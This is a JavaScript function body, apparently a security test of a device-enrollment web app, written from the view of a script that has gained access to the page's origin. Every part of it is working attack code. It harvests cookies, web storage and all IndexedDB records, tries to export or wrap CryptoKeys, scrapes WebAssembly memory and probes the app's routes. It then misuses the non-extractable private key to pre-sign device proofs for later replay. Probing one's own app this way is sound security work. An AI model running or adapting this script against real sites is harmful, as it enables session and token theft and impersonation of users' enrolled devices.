// The body of an async function: what a script that got onto the page's origin can take away. It runs with the rights of the
// page, for as long as the page is open.
const loot = { href: location.href, cookie: document.cookie, local: { ...localStorage }, session: { ...sessionStorage } };

// Every export of the module, called as the pages call it; and the module's memory, which any script can read.
const pages = await import('/assets/client.js');
const module = await pages.load();
const wasm = await module.default();
const before = await (await fetch('/api/v1/device')).json();
const calls = {
  check_readiness: () => module.check_readiness(pages.startWorker),
  device_key: () => module.device_key(),
  prove: () => module.prove(false, null),
  keep_token: () => module.keep_token('x'),
};
// Setting it up is done; forgetting comes last, when nothing else is to be had.
const notCalled = ['default', 'forget', 'initSync'];
loot.exports = {};
loot.unknownExports = Object.keys(module).filter((name) => !(name in calls) && !notCalled.includes(name));
for (const [name, call] of Object.entries(calls)) {
  loot.exports[name] = await call().then((value) => ({ value: value ?? null }), (thrown) => ({ thrown: thrown.message }));
}
loot.memory = new TextDecoder('latin1').decode(wasm.memory.buffer).match(/[\w.-]{40,}/g) ?? [];

// Everything in every database. Of a key, all that WebCrypto lets out.
const keys = [];
const taken = async (value) => {
  if (value instanceof CryptoKey) {
    const { type, extractable, usages } = value;
    keys.push(value);
    const out = { key: type, extractable, usages };
    for (const format of ['raw', 'pkcs8', 'spki', 'jwk']) {
      out[format] = await crypto.subtle.exportKey(format, value).then(
        (found) => (found instanceof ArrayBuffer ? b64(found) : found),
        (thrown) => ({ thrown: thrown.name }),
      );
    }
    const wrapping = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['wrapKey', 'unwrapKey']);
    out.wrapped = await crypto.subtle
      .wrapKey('pkcs8', value, wrapping, { name: 'AES-GCM', iv: new Uint8Array(12) })
      .then(b64, (thrown) => ({ thrown: thrown.name }));
    return out;
  }
  if (value === null || typeof value !== 'object') return value;
  const copy = {};
  for (const [name, one] of Object.entries(value)) copy[name] = await taken(one);
  return copy;
};
const b64 = (bytes) =>
  btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
const settled = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
loot.databases = {};
for (const { name } of await indexedDB.databases()) {
  const database = await settled(indexedDB.open(name));
  for (const store of database.objectStoreNames) {
    const names = await settled(database.transaction(store).objectStore(store).getAllKeys());
    const values = await settled(database.transaction(store).objectStore(store).getAll());
    for (const [place, value] of values.entries()) {
      loot.databases[`${name}/${store}/${names[place]}`] = await taken(value);
    }
  }
  database.close();
}

// What every route answers to a script: status, headers, body.
const json = { 'content-type': 'application/json' };
loot.answers = {};
for (const [method, path] of [
  ['GET', '/'], ['GET', '/enroll'], ['GET', '/prove'], ['GET', '/devices'], ['GET', '/api/v1/device'], ['GET', '/api/v1/devices'],
  ['GET', '/api/v1/verify'], ['GET', '/.well-known/jwks.json'], ['POST', '/api/v1/readiness'], ['POST', '/api/v1/device/challenge'],
  ['POST', '/api/v1/device/press'], ['POST', '/api/v1/device/unproven'],
]) {
  const answer = await fetch(path, method === 'GET' ? { cache: 'no-store' } : { method, headers: json, body: '{}' });
  loot.answers[`${method} ${path}`] = {
    status: answer.status, headers: [...answer.headers], body: await answer.text(),
  };
}

// Proofs signed ahead with the key that cannot be taken: it can be used while the page is open.
const token = loot.databases['device-enrollment/device/token'];
const privateKey = keys.find((key) => key.type === 'private');
const device_key = await module.device_key();
const ahead = async () => {
  const asked = await fetch('/api/v1/device/challenge', { method: 'POST', headers: json, body: '{}' });
  const { challenge } = await asked.json();
  const message = ['device-proof', location.origin, challenge, token].join('\n');
  const signature = b64(await crypto.subtle.sign('Ed25519', privateKey, new TextEncoder().encode(message)));
  return { origin: location.origin, device_key, challenge, device_token: token, signature };
};
loot.ahead = [await ahead(), await ahead(), await ahead()];
loot.deviceId = before.device_id;
return loot;
